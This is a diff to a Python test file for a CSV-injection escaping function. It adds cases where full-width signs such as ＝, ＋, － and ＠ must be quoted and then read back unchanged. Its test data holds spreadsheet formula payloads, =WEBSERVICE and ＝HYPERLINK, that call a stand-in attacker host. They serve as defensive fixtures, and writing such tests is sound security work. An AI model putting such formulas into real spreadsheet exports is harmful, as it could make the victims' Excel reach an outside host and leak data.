@@ -44,6 +44,16 @@ CONTACT = '=WEBSERVICE("http://evil.example/")'
         ("--", True),
         ("-A1", True),
         ("长阳镇=1", False),
+        # Full-width signs (a Chinese input method's ＝ ＋ － ＠): Excel in a CJK locale
+        # takes them for = + - @ when it parses what it reads, so they are quoted too.
+        ("＝1+2", True),
+        ('＝HYPERLINK("http://evil.example/","x")', True),
+        ("＋cmd", True),
+        ("－A1", True),
+        ("＠SUM(A1)", True),
+        ("－５", False),  # a number in full-width digits, as "-5"
+        ("－", False),  # a lone sign
+        ("（一）学习", False),  # other full-width punctuation is plain text
         ("", False),
         (5, False),
         (-5, False),
@@ -72,6 +82,14 @@ def test_csv_safe_prefixes_text_only_and_keeps_numbers():
 def test_csv_safe_returns_the_same_frame_when_nothing_needs_escaping():
     frame = pd.DataFrame({"text": ["长阳镇", "-5", None], "n": [-1, 2, 3]})
     assert safety.csv_safe(frame) is frame
+
+
+def test_csv_safe_prefixes_full_width_signs_and_reads_them_back():
+    """＝1+2 typed with a Chinese input method: written '＝1+2, read back as typed."""
+    frame = pd.DataFrame({"text": ["＝1+2", "＠x", "（一）", "－５", "长阳镇"]})
+    safe = safety.csv_safe(frame)
+    assert list(safe["text"]) == ["'＝1+2", "'＠x", "（一）", "－５", "长阳镇"]
+    assert list(safety.csv_unescape(safe)["text"]) == list(frame["text"])
 
 
 def test_csv_rows_prefixes_evaluable_text():
